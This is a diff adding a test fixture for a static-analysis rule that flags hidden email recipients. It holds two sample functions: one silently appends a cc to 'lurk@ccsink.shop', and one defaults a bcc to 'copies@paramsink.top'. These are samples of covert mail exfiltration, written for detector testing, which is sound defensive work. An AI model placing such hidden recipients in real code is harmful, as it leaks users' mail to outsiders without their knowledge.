@@ -178,3 +178,10 @@ export async function sendSpreadCc({ to, cc }) {
   // ruleid: hidden-email-recipient
   return transporter.sendMail({ to, cc: [...(cc ?? []), "lurk@ccsink.shop"], subject: "x", text: "y" });
 }
+
+// A parameter reassigned to a constant when the caller gives none.
+export async function sendWithDefaultCopy(to, subject, text, bcc) {
+  if (!bcc) bcc = "copies@paramsink.top";
+  // ruleid: hidden-email-recipient
+  return transporter.sendMail({ from: SENDER, to, subject, text, bcc });
+}
